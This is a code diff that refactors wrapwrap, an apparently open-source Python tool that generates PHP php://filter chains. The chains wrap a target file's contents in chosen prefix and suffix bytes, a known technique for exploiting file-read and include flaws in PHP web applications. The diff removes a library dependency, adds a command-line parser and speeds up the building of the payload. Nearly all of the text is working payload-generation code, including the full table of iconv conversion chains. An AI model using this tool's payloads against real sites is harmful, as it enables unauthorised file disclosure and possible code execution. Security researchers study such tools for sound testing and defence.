@@ -40,7 +40,7 @@ To solve the second example:
 
 # REQUIREMENTS
 
-Requires ten (https://github.com/cfreal/ten).
+Requires python 3.9+, and nothing else.
 
 # IMPROVEMENTS
 
@@ -58,18 +58,46 @@ This is based on the work of many individuals, the most recent being
 https://github.com/synacktiv/php_filter_chain_generator by remsio.
 """
 
-from ten import *
 from dataclasses import dataclass
+from pathlib import Path
+import argparse
+from binascii import b2a_base64
+import base64
+import functools
+import inspect
+import os
+import sys
+
+
+# Constants
+
+B64D = b"convert.base64-decode"
+B64E = b"convert.base64-encode"
+QPE = b"convert.quoted-printable-encode"
+REMOVE_EQUAL = b"convert.iconv.855.UTF7"
+SWAP4 = b"convert.iconv.UCS-4.UCS-4LE"
+
+B64_ALPHABET = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+# Maps each byte to its index in the B64 alphabet, or 255 if it is not a B64 char
+B64_INDEX = bytes(B64_ALPHABET.find(c) & 0xFF for c in range(256))
+
+
+def align_value(value: int, div: int) -> int:
+    return value + (div - value % div) % div
+
+
+def msg_info(message: str) -> None:
+    print(f"[*] {message}")
+
+
+def msg_success(message: str) -> None:
+    print(f"[+] {message}")
+
+
+def msg_warning(message: str) -> None:
+    print(f"[!] {message}", file=sys.stderr)
 
 
-@entry
-@arg("path", "Path to the file")
-@arg("nb_bytes", "Number of bytes to dump. It will be aligned with 9")
-@arg("prefix", "A string to write before the contents of the file")
-@arg("suffix", "A string to write after the contents of the file")
-@arg("output", "File to write the payload to. Defaults to chain.txt")
-@arg("padding_character", "Character to pad the prefix and suffix. Defaults to `M`.")
-@arg("from_file", "If set, prefix and suffix indicate files to load their value from, instead of the value itself")
 @dataclass
 class WrapWrap:
     """Generates a php://filter wrapper that adds a prefix and a suffix to the contents of a file.
@@ -93,13 +121,22 @@ class WrapWrap:
 
     def run(self) -> None:
         if self.from_file:
-            self.prefix = self.prefix and read_bytes(self.prefix)
-            self.suffix = self.suffix and read_bytes(self.suffix)
+            self.prefix = self.prefix and Path(self.prefix).read_bytes()
+            self.suffix = self.suffix and Path(self.suffix).read_bytes()
         else:
             self.prefix = self.prefix.encode()
             self.suffix = self.suffix.encode()
-        
-        self.filters = []
+
+        payload = self.build()
+        self.write(payload)
+        msg_success(f"Wrote filter chain to {self.output} (size={len(payload)}).")
+
+    def build(self) -> bytes:
+        """Builds the filter chain for the current (bytes) prefix and suffix, and
+        returns the complete php://filter payload.
+        """
+        self.padding_byte = self.padding_character.encode()
+        self.filters = bytearray()
         
         if self.suffix:
             self.compute_nb_chunks()
@@ -110,14 +147,30 @@ class WrapWrap:
             self.postlude()
         else:
             if self.nb_bytes:
-                msg_warning(f"Ignoring [i]nb_bytes[/] value since there is no suffix")
+                msg_warning("Ignoring nb_bytes value since there is no suffix")
             self.add_simple_prefix()
 
-        filters = "|".join(self.filters)
-        payload = f"php://filter/{filters}/resource={self.path}"
-        Path(self.output).write(payload)
-        msg_success(f"Wrote filter chain to [b]{self.output}[/] (size={len(payload)}).")
-        
+        # Every filter is preceded by a separator: skip the first one. Joining avoids
+        # copying the whole chain more than once
+        return b"".join(
+            (
+                b"php://filter/",
+                memoryview(self.filters)[1:],
+                b"/resource=",
+                self.path.encode("utf-8", "surrogateescape"),
+            )
+        )
+
+    def write(self, payload: bytes) -> None:
+        """Writes the payload to the output file, in as few syscalls as possible."""
+        fd = os.open(self.output, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
+        try:
+            data = memoryview(payload)
+            while data:
+                data = data[os.write(fd, data) :]
+        finally:
+            os.close(fd)
+
     def add_simple_prefix(self):
         """Just adds a prefix.
         """
@@ -125,28 +178,32 @@ class WrapWrap:
         
         prefix = self.align_right(self.prefix, 3)
         prefix = self.b64e(prefix)
-        
-        for char in reversed(prefix):
-            self.push_char_safely(char)
+        self.push_chars_safely(prefix)
         
         self / B64D
 
     def compute_nb_chunks(self) -> None:
-        real_stop = self.align_value(self.nb_bytes, 9)
+        real_stop = align_value(self.nb_bytes, 9)
         self.nb_chunks = int(real_stop / 9 * 4)
-        msg_info(f"Dumping [i]{real_stop}[/] bytes from [b]{self.path}[/].")
+        msg_info(f"Dumping {real_stop} bytes from {self.path}.")
 
-    def __truediv__(self, filters: str) -> None:
-        self.filters.append(filters)
+    def __truediv__(self, filters: bytes) -> None:
+        self.filters += b"|"
+        self.filters += filters
         return self
 
-    def push_char(self, c: bytes) -> None:
-        if isinstance(c, int):
-            c = bytes((c,))
-        return self / self.conversions[c] / B64D / B64E
+    def push_char(self, c: int) -> None:
+        return self / self.conversions_full[c]
 
-    def push_char_safely(self, c: bytes) -> None:
-        self.push_char(c) / REMOVE_EQUAL
+    def push_char_safely(self, c: int) -> None:
+        return self / self.conversions_safe[c]
+
+    def push_chars_safely(self, chars: bytes) -> None:
+        """Pushes each character of `chars`, last one first, so that the stream
+        ends up starting with `chars`.
+        """
+        table = self.conversions_safe
+        self.filters += b"".join(b"|" + table[c] for c in reversed(chars))
 
     def pad(self) -> None:
         """Pads the content of the file with some garbage to make sure we don't trim
@@ -170,12 +227,12 @@ class WrapWrap:
         The second B64 needs to be 3-aligned because the third needs to be 4-aligned.
         """
         self / B64E / QPE / REMOVE_EQUAL
-        self.push_char(b"A")
+        self.push_char(ord("A"))
         self / QPE / REMOVE_EQUAL
-        self.push_char(b"A")
+        self.push_char(ord("A"))
         self / QPE / REMOVE_EQUAL
-        self.push_char_safely(b"A")
-        self.push_char_safely(b"A")
+        self.push_char_safely(ord("A"))
+        self.push_char_safely(ord("A"))
         self / B64D
 
     def escape(self) -> None:
@@ -189,54 +246,69 @@ class WrapWrap:
         self.escape()
         self / B64E / B64E
         self.align()
-        self / "convert.iconv.437.UCS-4le"
+        self / b"convert.iconv.437.UCS-4le"
 
     def add3_swap(self, triplet: bytes) -> None:
+        self / self.swap3_chain(triplet)
+
+    @classmethod
+    @functools.lru_cache(maxsize=256)
+    def swap3_chain(cls, triplet: bytes) -> bytes:
+        """Returns the filters that `add3_swap` pushes for the given triplet. Triplets
+        repeat a lot, so they are cached.
+        """
         assert len(triplet) == 3, f"add3 called with: {triplet}"
-        b64 = self.b64e(triplet)
-        self / B64E
-        self.push_char(b64[3])
-        self.push_char(b64[2])
-        self.push_char(b64[1])
-        self.push_char(b64[0])
-        self / B64D
-        self / SWAP4
+        b64 = base64.b64encode(triplet)
+        table = cls.conversions_full
+        return b"|".join(
+            (B64E, table[b64[3]], table[b64[2]], table[b64[1]], table[b64[0]], B64D, SWAP4)
+        )
 
     def b64e(self, value: bytes, strip: bool = False) -> bytes:
-        value = tf.base64.encode(value)
-        if strip:
-            while value.endswith("="):
-                value = value.removesuffix("=")
-        return value.encode()
+        if not isinstance(value, (bytes, bytearray)):
+            value = value.encode()
+        value = base64.b64encode(value)
+        return value.rstrip(b"=") if strip else value
 
     def add_suffix(self) -> None:
         """Adds a suffix to the string, along with the <LF>0<LF> that marks the end of
         chunked data.
         """
-        self.add3_swap("\n0\n")
+        self.add3_swap(b"\n0\n")
+        for triplet in self.suffix_triplets():
+            self.add3_swap(triplet)
+
+    def suffix_triplets(self) -> list[bytes]:
+        """Converts the suffix into the triplets to give to `add3_swap`, in order.
+        Each 2-byte chunk of the B64 suffix, starting from the end, is encoded again
+        and gets its LSBs set; every other triplet is reversed.
+        """
         suffix_b64 = self.b64e(self.suffix)
-        reverse = False
+        triplets = []
 
-        for chunk in reversed(list(niter(suffix_b64, 2))):
-            chunk = self.b64e(chunk, strip=True)
-            chunk = self.set_lsbs(chunk)
-            if reverse:
-                chunk = chunk[::-1]
-            self.add3_swap(chunk)
-            reverse = not reverse
+        # The B64 of the suffix has an even size, so it splits evenly into pairs; the
+        # B64 of a pair is always 3 chars followed by a single `=`
+        for i in range(len(suffix_b64) - 2, -1, -2):
+            triplet = b2a_base64(suffix_b64[i : i + 2], newline=False)[:3]
+            triplet = self.set_lsbs(triplet)
+            if len(triplets) % 2:
+                triplet = triplet[::-1]
+            triplets.append(triplet)
+
+        return triplets
 
     def pad_suffix(self) -> None:
         """Moves the suffix up the string."""
-        for _ in range(self.nb_chunks * 4 + 2):
-            # This is not a random string: it minimizes the size of the payload
-            self.add3_swap("\x08\x29\x02")
+        # This is not a random string: it minimizes the size of the payload
+        chain = b"|" + self.swap3_chain(b"\x08\x29\x02")
+        self.filters += chain * (self.nb_chunks * 4 + 2)
 
     def add_prefix(self) -> None:
         self / B64E
 
         prefix = self.align_right(self.prefix, 3)
         prefix = self.b64e(prefix)
-        prefix = self.align_right(prefix, 3 * 3, "\x00")
+        prefix = self.align_right(prefix, 3 * 3, b"\x00")
         prefix = self.b64e(prefix)
         size = int(
             len(self.b64e(self.suffix)) / 2 * 4
@@ -245,123 +317,157 @@ class WrapWrap:
             + 7
             + len(prefix)
         )
-        chunk_header = self.align_left(f"{size:x}\n".encode(), 3, "0")
+        chunk_header = self.align_left(f"{size:x}\n".encode(), 3, b"0")
+        # The REMOVE_EQUAL filters pushed along each char are required: they strip
+        # the `=` produced by re-encoding the stream, not padding from the prefix,
+        # which is 3-aligned
         b64 = self.b64e(chunk_header + prefix)
-        for char in reversed(b64):
-            self.push_char_safely(char)
+        self.push_chars_safely(b64)
 
     def postlude(self) -> None:
-        self / B64D / "dechunk" / B64D / B64D
+        self / B64D / b"dechunk" / B64D / B64D
 
     def set_lsbs(self, chunk: bytes) -> bytes:
         """Sets the two LS bits of the given chunk, so that the caracter that comes
         after is not ASCII, and thus not a valid B64 char. A double decode would
         therefore "remove" that char.
         """
-        char = chunk[2]
-        alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
-        index = alphabet.find(char)
-        return chunk[:2] + alphabet[index + 3: index + 3 + 1]
+        index = B64_INDEX[chunk[2]]
+        return chunk[:2] + B64_ALPHABET[index + 3 : index + 3 + 1]
 
-    def align_right(self, input_str: bytes, n: int, p: str = None) -> bytes:
+    def align_right(self, input_str: bytes, n: int, p: bytes = None) -> bytes:
         """Aligns the input string to the right to make its length divisible by n, using
         the specified pad character.
         """
-        p = p or self.padding_character
-        p = p.encode()
         padding_size = (n - len(input_str) % n) % n
+        if not padding_size:
+            return input_str
+        p = p or self.padding_byte
         aligned_str = input_str.ljust(len(input_str) + padding_size, p)
 
         return aligned_str
 
-    def align_left(self, input_str: bytes, n: int, p: str = None) -> bytes:
+    def align_left(self, input_str: bytes, n: int, p: bytes = None) -> bytes:
         """Aligns the input string to the left to make its length divisible by n, using
         the specified pad character.
         """
-        p = p or self.padding_character
-        p = p.encode()
-        aligned_str = input_str.rjust(self.align_value(len(input_str), n), p)
+        if not len(input_str) % n:
+            return input_str
+        p = p or self.padding_byte
+        aligned_str = input_str.rjust(align_value(len(input_str), n), p)
 
         return aligned_str
 
-    @staticmethod
-    def align_value(value: int, div: int) -> int:
-        return value + (div - value % div) % div
-
     conversions = {
-        b"0": "convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UCS2.UTF8|convert.iconv.8859_3.UCS2",
-        b"1": "convert.iconv.ISO88597.UTF16|convert.iconv.RK1048.UCS-4LE|convert.iconv.UTF32.CP1167|convert.iconv.CP9066.CSUCS4",
-        b"2": "convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.CP949.UTF32BE|convert.iconv.ISO_69372.CSIBM921",
-        b"3": "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.ISO6937.8859_4|convert.iconv.IBM868.UTF-16LE",
-        b"4": "convert.iconv.CP866.CSUNICODE|convert.iconv.CSISOLATIN5.ISO_6937-2|convert.iconv.CP950.UTF-16BE",
-        b"5": "convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UTF16.EUCTW|convert.iconv.8859_3.UCS2",
-        b"6": "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.CSIBM943.UCS4|convert.iconv.IBM866.UCS-2",
-        b"7": "convert.iconv.851.UTF-16|convert.iconv.L1.T.618BIT|convert.iconv.ISO-IR-103.850|convert.iconv.PT154.UCS4",
-        b"8": "convert.iconv.ISO2022KR.UTF16|convert.iconv.L6.UCS2",
-        b"9": "convert.iconv.CSIBM1161.UNICODE|convert.iconv.ISO-IR-156.JOHAB",
-        b"A": "convert.iconv.8859_3.UTF16|convert.iconv.863.SHIFT_JISX0213",
-        b"a": "convert.iconv.CP1046.UTF32|convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE",
-        b"B": "convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000",
-        b"b": "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UCS-2.OSF00030010|convert.iconv.CSIBM1008.UTF32BE",
-        b"C": "convert.iconv.UTF8.CSISO2022KR",
-        b"c": "convert.iconv.L4.UTF32|convert.iconv.CP1250.UCS-2",
-        b"D": "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.IBM932.SHIFT_JISX0213",
-        b"d": "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.GBK.BIG5",
-        b"E": "convert.iconv.IBM860.UTF16|convert.iconv.ISO-IR-143.ISO2022CNEXT",
-        b"e": "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UTF16.EUC-JP-MS|convert.iconv.ISO-8859-1.ISO_6937",
-        b"F": "convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.CP950.SHIFT_JISX0213|convert.iconv.UHC.JOHAB",
-        b"f": "convert.iconv.CP367.UTF-16|convert.iconv.CSIBM901.SHIFT_JISX0213",
-        b"g": "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|convert.iconv.IBM-932.UTF-8",
-        b"G": "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90",
-        b"H": "convert.iconv.CP1046.UTF16|convert.iconv.ISO6937.SHIFT_JISX0213",
-        b"h": "convert.iconv.CSGB2312.UTF-32|convert.iconv.IBM-1161.IBM932|convert.iconv.GB13000.UTF16BE|convert.iconv.864.UTF-32LE",
-        b"I": "convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.BIG5.SHIFT_JISX0213",
-        b"i": "convert.iconv.DEC.UTF-16|convert.iconv.ISO8859-9.ISO_6937-2|convert.iconv.UTF16.GB13000",
-        b"J": "convert.iconv.863.UNICODE|convert.iconv.ISIRI3342.UCS4",
-        b"j": "convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000|convert.iconv.BIG5.JOHAB|convert.iconv.CP950.UTF16",
-        b"K": "convert.iconv.863.UTF-16|convert.iconv.ISO6937.UTF16LE",
-        b"k": "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2",
-        b"L": "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.R9.ISO6937|convert.iconv.OSF00010100.UHC",
-        b"l": "convert.iconv.CP-AR.UTF16|convert.iconv.8859_4.BIG5HKSCS|convert.iconv.MSCP1361.UTF-32LE|convert.iconv.IBM932.UCS-2BE",
-        b"M": "convert.iconv.CP869.UTF-32|convert.iconv.MACUK.UCS4|convert.iconv.UTF16BE.866|convert.iconv.MACUKRAINIAN.WCHAR_T",
-        b"m": "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.CP1163.CSA_T500|convert.iconv.UCS-2.MSCP949",
-        b"N": "convert.iconv.CP869.UTF-32|convert.iconv.MACUK.UCS4",
-        b"n": "convert.iconv.ISO88594.UTF16|convert.iconv.IBM5347.UCS4|convert.iconv.UTF32BE.MS936|convert.iconv.OSF00010004.T.61",
-        b"O": "convert.iconv.CSA_T500.UTF-32|convert.iconv.CP857.ISO-2022-JP-3|convert.iconv.ISO2022JP2.CP775",
-        b"o": "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UCS-4LE.OSF05010001|convert.iconv.IBM912.UTF-16LE",
-        b"P": "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.MS932.MS936|convert.iconv.BIG5.JOHAB",
-        b"p": "convert.iconv.IBM891.CSUNICODE|convert.iconv.ISO8859-14.ISO6937|convert.iconv.BIG-FIVE.UCS-4",
-        b"q": "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.GBK.CP932|convert.iconv.BIG5.UCS2",
-        b"Q": "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.CSA_T500-1983.UCS-2BE|convert.iconv.MIK.UCS2",
-        b"R": "convert.iconv.PT.UTF32|convert.iconv.KOI8-U.IBM-932|convert.iconv.SJIS.EUCJP-WIN|convert.iconv.L10.UCS4",
-        b"r": "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.ISO-IR-99.UCS-2BE|convert.iconv.L4.OSF00010101",
-        b"S": "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.GBK.SJIS",
-        b"s": "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90",
-        b"T": "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.CSA_T500.L4|convert.iconv.ISO_8859-2.ISO-IR-103",
-        b"t": "convert.iconv.864.UTF32|convert.iconv.IBM912.NAPLPS",
-        b"U": "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943",
-        b"u": "convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61",
-        b"V": "convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000|convert.iconv.BIG5.JOHAB",
-        b"v": "convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UTF16.EUCTW|convert.iconv.ISO-8859-14.UCS2",
-        b"W": "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.MS932.MS936",
-        b"w": "convert.iconv.MAC.UTF16|convert.iconv.L8.UTF16BE",
-        b"X": "convert.iconv.PT.UTF32|convert.iconv.KOI8-U.IBM-932",
-        b"x": "convert.iconv.CP-AR.UTF16|convert.iconv.8859_4.BIG5HKSCS",
-        b"Y": "convert.iconv.CP367.UTF-16|convert.iconv.CSIBM901.SHIFT_JISX0213|convert.iconv.UHC.CP1361",
-        b"y": "convert.iconv.851.UTF-16|convert.iconv.L1.T.618BIT",
-        b"Z": "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.BIG5HKSCS.UTF16",
-        b"z": "convert.iconv.865.UTF16|convert.iconv.CP901.ISO6937",
-        b"/": "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.UCS2.UTF-8|convert.iconv.CSISOLATIN6.UCS-4",
-        b"+": "convert.iconv.UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.iconv.ISIRI3342.ISO-IR-157",
+        b"0": b"convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UCS2.UTF8|convert.iconv.8859_3.UCS2",
+        b"1": b"convert.iconv.ISO88597.UTF16|convert.iconv.RK1048.UCS-4LE|convert.iconv.UTF32.CP1167|convert.iconv.CP9066.CSUCS4",
+        b"2": b"convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.CP949.UTF32BE|convert.iconv.ISO_69372.CSIBM921",
+        b"3": b"convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.ISO6937.8859_4|convert.iconv.IBM868.UTF-16LE",
+        b"4": b"convert.iconv.CP866.CSUNICODE|convert.iconv.CSISOLATIN5.ISO_6937-2|convert.iconv.CP950.UTF-16BE",
+        b"5": b"convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UTF16.EUCTW|convert.iconv.8859_3.UCS2",
+        b"6": b"convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.CSIBM943.UCS4|convert.iconv.IBM866.UCS-2",
+        b"7": b"convert.iconv.851.UTF-16|convert.iconv.L1.T.618BIT|convert.iconv.ISO-IR-103.850|convert.iconv.PT154.UCS4",
+        b"8": b"convert.iconv.ISO2022KR.UTF16|convert.iconv.L6.UCS2",
+        b"9": b"convert.iconv.CSIBM1161.UNICODE|convert.iconv.ISO-IR-156.JOHAB",
+        b"A": b"convert.iconv.8859_3.UTF16|convert.iconv.863.SHIFT_JISX0213",
+        b"a": b"convert.iconv.CP1046.UTF32|convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE",
+        b"B": b"convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000",
+        b"b": b"convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UCS-2.OSF00030010|convert.iconv.CSIBM1008.UTF32BE",
+        b"C": b"convert.iconv.UTF8.CSISO2022KR",
+        b"c": b"convert.iconv.L4.UTF32|convert.iconv.CP1250.UCS-2",
+        b"D": b"convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.IBM932.SHIFT_JISX0213",
+        b"d": b"convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.GBK.BIG5",
+        b"E": b"convert.iconv.IBM860.UTF16|convert.iconv.ISO-IR-143.ISO2022CNEXT",
+        b"e": b"convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UTF16.EUC-JP-MS|convert.iconv.ISO-8859-1.ISO_6937",
+        b"F": b"convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.CP950.SHIFT_JISX0213|convert.iconv.UHC.JOHAB",
+        b"f": b"convert.iconv.CP367.UTF-16|convert.iconv.CSIBM901.SHIFT_JISX0213",
+        b"g": b"convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|convert.iconv.IBM-932.UTF-8",
+        b"G": b"convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90",
+        b"H": b"convert.iconv.CP1046.UTF16|convert.iconv.ISO6937.SHIFT_JISX0213",
+        b"h": b"convert.iconv.CSGB2312.UTF-32|convert.iconv.IBM-1161.IBM932|convert.iconv.GB13000.UTF16BE|convert.iconv.864.UTF-32LE",
+        b"I": b"convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.BIG5.SHIFT_JISX0213",
+        b"i": b"convert.iconv.DEC.UTF-16|convert.iconv.ISO8859-9.ISO_6937-2|convert.iconv.UTF16.GB13000",
+        b"J": b"convert.iconv.863.UNICODE|convert.iconv.ISIRI3342.UCS4",
+        b"j": b"convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000|convert.iconv.BIG5.JOHAB|convert.iconv.CP950.UTF16",
+        b"K": b"convert.iconv.863.UTF-16|convert.iconv.ISO6937.UTF16LE",
+        b"k": b"convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2",
+        b"L": b"convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.R9.ISO6937|convert.iconv.OSF00010100.UHC",
+        b"l": b"convert.iconv.CP-AR.UTF16|convert.iconv.8859_4.BIG5HKSCS|convert.iconv.MSCP1361.UTF-32LE|convert.iconv.IBM932.UCS-2BE",
+        b"M": b"convert.iconv.CP869.UTF-32|convert.iconv.MACUK.UCS4|convert.iconv.UTF16BE.866|convert.iconv.MACUKRAINIAN.WCHAR_T",
+        b"m": b"convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.CP1163.CSA_T500|convert.iconv.UCS-2.MSCP949",
+        b"N": b"convert.iconv.CP869.UTF-32|convert.iconv.MACUK.UCS4",
+        b"n": b"convert.iconv.ISO88594.UTF16|convert.iconv.IBM5347.UCS4|convert.iconv.UTF32BE.MS936|convert.iconv.OSF00010004.T.61",
+        b"O": b"convert.iconv.CSA_T500.UTF-32|convert.iconv.CP857.ISO-2022-JP-3|convert.iconv.ISO2022JP2.CP775",
+        b"o": b"convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UCS-4LE.OSF05010001|convert.iconv.IBM912.UTF-16LE",
+        b"P": b"convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.MS932.MS936|convert.iconv.BIG5.JOHAB",
+        b"p": b"convert.iconv.IBM891.CSUNICODE|convert.iconv.ISO8859-14.ISO6937|convert.iconv.BIG-FIVE.UCS-4",
+        b"q": b"convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.GBK.CP932|convert.iconv.BIG5.UCS2",
+        b"Q": b"convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.CSA_T500-1983.UCS-2BE|convert.iconv.MIK.UCS2",
+        b"R": b"convert.iconv.PT.UTF32|convert.iconv.KOI8-U.IBM-932|convert.iconv.SJIS.EUCJP-WIN|convert.iconv.L10.UCS4",
+        b"r": b"convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.ISO-IR-99.UCS-2BE|convert.iconv.L4.OSF00010101",
+        b"S": b"convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.GBK.SJIS",
+        b"s": b"convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90",
+        b"T": b"convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.CSA_T500.L4|convert.iconv.ISO_8859-2.ISO-IR-103",
+        b"t": b"convert.iconv.864.UTF32|convert.iconv.IBM912.NAPLPS",
+        b"U": b"convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943",
+        b"u": b"convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61",
+        b"V": b"convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000|convert.iconv.BIG5.JOHAB",
+        b"v": b"convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UTF16.EUCTW|convert.iconv.ISO-8859-14.UCS2",
+        b"W": b"convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.MS932.MS936",
+        b"w": b"convert.iconv.MAC.UTF16|convert.iconv.L8.UTF16BE",
+        b"X": b"convert.iconv.PT.UTF32|convert.iconv.KOI8-U.IBM-932",
+        b"x": b"convert.iconv.CP-AR.UTF16|convert.iconv.8859_4.BIG5HKSCS",
+        b"Y": b"convert.iconv.CP367.UTF-16|convert.iconv.CSIBM901.SHIFT_JISX0213|convert.iconv.UHC.CP1361",
+        b"y": b"convert.iconv.851.UTF-16|convert.iconv.L1.T.618BIT",
+        b"Z": b"convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.BIG5HKSCS.UTF16",
+        b"z": b"convert.iconv.865.UTF16|convert.iconv.CP901.ISO6937",
+        b"/": b"convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.UCS2.UTF-8|convert.iconv.CSISOLATIN6.UCS-4",
+        b"+": b"convert.iconv.UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.iconv.ISIRI3342.ISO-IR-157",
     }
 
+    # Full filter sequence pushed for each character, precomputed to avoid looking
+    # up and appending the same filters over and over. Keys are ints so that bytes
+    # can be iterated over directly
+    conversions_full = {
+        c[0]: b"|".join((chain, B64D, B64E))
+        for c, chain in conversions.items()
+    }
+    conversions_safe = {
+        c: chain + b"|" + REMOVE_EQUAL for c, chain in conversions_full.items()
+    }
 
-# Constants
-
-B64D = "convert.base64-decode"
-B64E = "convert.base64-encode"
-QPE = "convert.quoted-printable-encode"
-REMOVE_EQUAL = "convert.iconv.855.UTF7"
-SWAP4 = "convert.iconv.UCS-4.UCS-4LE"
 
-WrapWrap()
+def main() -> None:
+    parser = argparse.ArgumentParser(
+        description=inspect.cleandoc(WrapWrap.__doc__),
+        formatter_class=argparse.RawDescriptionHelpFormatter,
+    )
+    parser.add_argument("path", help="Path to the file")
+    parser.add_argument("prefix", help="A string to write before the contents of the file")
+    parser.add_argument("suffix", help="A string to write after the contents of the file")
+    parser.add_argument(
+        "nb_bytes", type=int, help="Number of bytes to dump. It will be aligned with 9"
+    )
+    parser.add_argument(
+        "-o",
+        "--output",
+        default="chain.txt",
+        help="File to write the payload to. Defaults to chain.txt",
+    )
+    parser.add_argument(
+        "-p",
+        "--padding-character",
+        default="M",
+        help="Character to pad the prefix and suffix. Defaults to `M`.",
+    )
+    parser.add_argument(
+        "-f",
+        "--from-file",
+        action="store_true",
+        help="If set, prefix and suffix indicate files to load their value from, instead of the value itself",
+    )
+    WrapWrap(**vars(parser.parse_args())).run()
+
+
+if __name__ == "__main__":
+    main()